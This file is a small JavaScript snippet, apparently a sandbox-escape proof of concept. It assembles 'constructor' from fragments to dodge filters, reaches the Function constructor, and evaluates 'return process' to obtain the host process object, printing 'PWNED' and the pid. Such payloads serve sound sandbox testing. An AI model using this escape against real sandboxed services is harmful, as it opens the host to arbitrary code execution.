'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const [[{ a }]] = [[{ a: t }]];
const o = Date.now() > 1 ? a : {};
console.log('PWNED', o.go(fn)('return process')().pid);
